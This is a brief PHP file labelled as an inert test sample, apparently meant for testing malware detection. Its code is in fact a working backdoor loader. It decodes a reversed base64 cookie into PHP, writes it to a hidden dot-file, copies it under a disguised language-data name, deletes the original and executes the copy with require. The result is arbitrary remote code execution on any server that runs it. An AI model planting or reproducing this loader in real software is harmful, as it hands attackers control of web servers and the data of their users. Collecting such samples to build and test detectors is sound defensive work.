<?php
// inert test sample: a decoded cookie written to a dot-file, copied under a second name whose
// pieces are joined, and that name required
$a = '.tmp_' . 'x';
$b = 'lang' . '/en.' . 'dat';
file_put_contents($a, "<?php\n" . base64_decode(strrev($_COOKIE['l'])));
copy($a, $b);
@unlink($a);
require $b;
